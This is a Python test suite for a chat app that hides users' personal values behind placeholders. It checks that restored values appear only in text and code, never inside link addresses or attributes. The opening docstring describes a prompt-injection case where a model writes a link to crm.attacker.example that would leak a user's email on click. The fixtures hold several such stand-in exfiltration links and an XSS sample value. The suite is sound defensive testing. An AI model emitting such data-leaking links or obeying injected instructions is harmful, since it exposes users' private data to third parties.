"""The author's values go back into an answer's text, never into a link's address.

A model (steered, say, by a prompt injection in a pasted document) can write
``[Open](https://crm.attacker.example/?who=[EMAIL_1])``: were the placeholder put back
before the Markdown is rendered, one click would send the real address to a third party.
Values are put back after parsing, in text and code only, and not inside a word that
would read as an address (other Markdown viewers link bare addresses in an export).
"""

import json
import time
from urllib.parse import unquote

import pytest
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from chat import services
from chat.markdown import GrowingAnswer, render_markdown, restore_markdown
from chat.models import Message
from tests.asked_here import asked
from tests.chat.test_markdown import REL, _assert_safe, _parse
from tests.chat.test_views import (
    EMAIL,
    EMAIL_BACK,
    LIVE,
    ON_THREADS,
    QUESTION,
    _answered,
    _events,
    _fields,
    restored,
)

VALUES = {"[EMAIL_1]": EMAIL, "[PERSON_1]": "Ann Lee", "[LINK_1]": "https://evil.example/?q="}
ANN_BACK = restored("Ann Lee", "[PERSON_1]")
LINKED = "Done. [Open the CRM record](https://crm.attacker.example/lookup?who=[EMAIL_1])\n"


def _attributes(html: str) -> list[str]:
    """Every attribute value of ``html``, as a browser reads it (and %-decoded)."""
    return [unquote(value or "") for _, attrs in _parse(html).tags for value in attrs.values()]


def _assert_no_value_in_attributes(html: str) -> None:
    for value in _attributes(html):
        assert "jane.roe" not in value and "Ann Lee" not in value, html


# --- rendering ---------------------------------------------------------------------------


def test_it_keeps_a_value_out_of_a_links_address():
    html = render_markdown(LINKED, VALUES)
    _assert_no_value_in_attributes(html)
    assert 'href="https://crm.attacker.example/lookup?who=%5BEMAIL_1%5D"' in html
    assert ">Open the CRM record</a>" in html


def test_it_keeps_a_value_out_of_a_streamed_links_address():
    text = f"Let me check.\n\n{LINKED}\nAnything else, [PERSON_1]?"
    answer = GrowingAnswer(VALUES)
    for end in range(1, len(text) + 1):
        html = answer.html(text[:end])
        _assert_no_value_in_attributes(html)
    assert f"Anything else, {ANN_BACK}?" in html


def test_it_keeps_a_value_out_of_a_links_title_and_an_autolink():
    html = render_markdown(
        '[a](https://x.example "for [PERSON_1]") and <https://evil.example/?q=[EMAIL_1]>', VALUES
    )
    _assert_no_value_in_attributes(html)
    assert 'title="for [PERSON_1]"' in html
    # An autolink's text is its address: it shows the address it goes to.
    assert f'rel="{REL}">https://evil.example/?q=[EMAIL_1]</a>' in html


def test_it_shows_a_value_in_a_links_text():
    html = render_markdown("[Write to [EMAIL_1]](mailto:dpo@example.com)", VALUES)
    assert f'<a href="mailto:dpo@example.com" rel="{REL}">Write to {EMAIL_BACK}</a>' in html


@pytest.mark.parametrize(
    "text",
    [
        "See https://evil.example/lookup?who=[EMAIL_1] now.",
        "See evil.example/?who=[PERSON_1] now.",
        "See www.evil.example/[PERSON_1] now.",
        "See [PERSON_1].evil.example now.",
        "Mail [PERSON_1]@evil.example now.",
        "See [LINK_1][EMAIL_1] now.",  # a URL the author pasted, then an address
    ],
)
def test_it_leaves_a_placeholder_that_would_make_an_address_as_it_is(text):
    html = render_markdown(text, VALUES)
    assert "jane.roe" not in html and "Ann Lee" not in html
    assert "[" in html
    assert restore_markdown(text, VALUES) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Write to [EMAIL_1].", f"Write to {EMAIL_BACK}."),
        ("([PERSON_1]), [PERSON_1]'s manager", f"({ANN_BACK}), {ANN_BACK}'s manager"),
        ("[PERSON_1]/[PERSON_1]: done!", f"{ANN_BACK}/{ANN_BACK}: done!"),
        ("**[EMAIL_1]**", f"<strong>{EMAIL_BACK}</strong>"),
        # Code and an image's alt text show plain text: the value, unmarked.
        ("Use `[EMAIL_1]` here.", f"Use <code>{EMAIL}</code> here."),
        ("```\nto = '[EMAIL_1]'\n```", f"<code>to = '{EMAIL}'\n</code>"),
        ("    to = [EMAIL_1]", f"<code>to = {EMAIL}\n</code>"),
        ("![photo of [PERSON_1]](https://x.example/p.png)", "photo of Ann Lee"),
    ],
)
def test_it_puts_values_back_in_text_and_code(text, shown):
    html = render_markdown(text, VALUES)
    assert shown in html, html


def test_a_bracket_the_model_wrote_itself_is_not_marked_as_a_value():
    html = render_markdown("Send it to [ADDRESS_1], cc [EMAIL_1] and [EMAIL_9].", VALUES)
    assert html == f"<p>Send it to [ADDRESS_1], cc {EMAIL_BACK} and [EMAIL_9].</p>\n"
    assert "".join(_parse(html).text) == f"Send it to [ADDRESS_1], cc {EMAIL} and [EMAIL_9].\n"


def test_a_marked_value_keeps_the_text_around_it_and_escapes_itself():
    values = {"[PERSON_1]": 'Ann "<b>" Lee & co'}
    html = render_markdown("Dear [PERSON_1],\nthanks.", values)
    _assert_safe(html)
    title = "Your value, put back by Steward: the model saw [PERSON_1]"
    assert html == (
        f'<p>Dear <span class="restored" title="{title}">Ann "&lt;b&gt;" Lee &amp; co'
        "</span>,\nthanks.</p>\n"
    )


def test_it_shows_a_value_as_text_never_as_markup():
    values = {"[PERSON_1]": '<img src=x onerror="alert(1)"> *Ann* [x](https://evil.example)'}
    html = render_markdown("Hello [PERSON_1].", values)
    _assert_safe(html)
    assert "<img" not in html and "<em>" not in html and "href" not in html
    assert "&lt;img src=x" in html and "*Ann*" in html


def test_a_value_in_angle_brackets_stays_a_placeholder():
    """Put back, "<[EMAIL_1]>" became the export's autolink "<jane.roe@example.org>" (found
    by the property below)."""
    assert restore_markdown("Write to <[EMAIL_1]>.", VALUES) == "Write to <[EMAIL_1]>."
    _assert_no_value_in_attributes(render_markdown(restore_markdown("<[EMAIL_1]>", VALUES)))
    assert "Ann Lee" in render_markdown("Ask <b>[PERSON_1]</b>", VALUES)  # "<" of a tag


PIECES = [
    *("[EMAIL_1]", "[PERSON_1]", "[LINK_1]", "[EMAIL_9]", "&#91;EMAIL_1&#93;", "\\[EMAIL_1\\]"),
    *("[", "]", "(", ")", "<", ">", "`", "```", "*", "!", "\\", '"', "/", "?q=", "@", "."),
    *("https://evil.example/", "mailto:", "www.", "](", "](<", " ", "\n", "\n\n", "    "),
]


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(PIECES), max_size=25))
def test_no_mix_of_syntax_puts_a_value_in_an_attribute(pieces):
    text = "".join(pieces)
    html = render_markdown(text, VALUES)
    _assert_safe(html)
    _assert_no_value_in_attributes(html)
    # The export's Markdown, rendered anywhere, puts no value in a link either.
    _assert_no_value_in_attributes(render_markdown(restore_markdown(text, VALUES)))


def test_a_long_word_costs_no_more_than_its_length():
    """Values are put back word by word at every streamed render: a long run of non-space
    characters (a pasted blob) must not send a regular expression backtracking."""
    text = "```\n" + "[" + "x" * 50_000 + " [EMAIL_1]\n```\n"
    started = time.perf_counter()
    html = render_markdown(text, VALUES)
    assert time.perf_counter() - started < 0.5
    assert EMAIL in html


# --- the page, the stream and the exports ------------------------------------------------


@pytest.fixture
def linked(org):
    """Alice's conversation whose answer hides her address in a link, and names it."""
    conversation, _, answer = _answered(
        org.alice,
        org.internal,
        QUESTION,
        f"{LINKED}\nI will write to [EMAIL_1] today.",
        pseudonyms={EMAIL: "[EMAIL_1]"},
    )
    return conversation, answer


def test_the_stored_answer_keeps_the_value_out_of_the_link(client, org, linked):
    conversation, answer = linked
    client.force_login(org.alice)
    for url in (
        reverse("chat:conversation", args=[conversation.public_id]),
        reverse("chat:turn", args=[answer.public_id]),
    ):
        page = client.get(url).content.decode()
        assert "lookup?who=%5BEMAIL_1%5D" in page and f"lookup?who={EMAIL}" not in page, url
        assert f"I will write to {EMAIL_BACK} today." in page, url


def test_the_exports_keep_the_value_out_of_the_link(client, org, linked):
    """Markdown and JSON alike: the answer's Markdown, values back in its text only."""
    conversation, _ = linked
    client.force_login(org.alice)
    markdown = client.get(
        asked(client, reverse("chat:export", args=[conversation.public_id, "md"]))
    )
    exported = json.loads(
        client.get(
            asked(client, reverse("chat:export", args=[conversation.public_id, "json"]))
        ).content
    )
    for text in (markdown.content.decode(), exported["messages"][1]["text"]):
        assert "(https://crm.attacker.example/lookup?who=[EMAIL_1])" in text
        assert f"I will write to {EMAIL} today." in text


@ON_THREADS
def test_the_streamed_answer_keeps_the_value_out_of_the_link(
    client, org, django_capture_on_commit_callbacks
):
    org.external.reply = ["[Open](https://crm.example/?who=", "[EMAIL", "_1]) for [EMAIL_1]."]
    conversation = services.start_conversation(owner=org.alice, category=org.internal)
    client.force_login(org.alice)
    url = reverse("chat:send_and_stream", args=[conversation.public_id])
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url, {"text": QUESTION}, **LIVE)
    chunks = [e["data"] for e in map(_fields, _events(response)) if e.get("event") == "chunk"]
    assert chunks and all(f"who={EMAIL}" not in chunk for chunk in chunks)
    assert "who=%5BEMAIL_1%5D" in chunks[-1] and f"for {EMAIL_BACK}." in chunks[-1]
    answer = Message.objects.get(role=Message.Role.ASSISTANT)
    assert answer.status == Message.Status.DONE
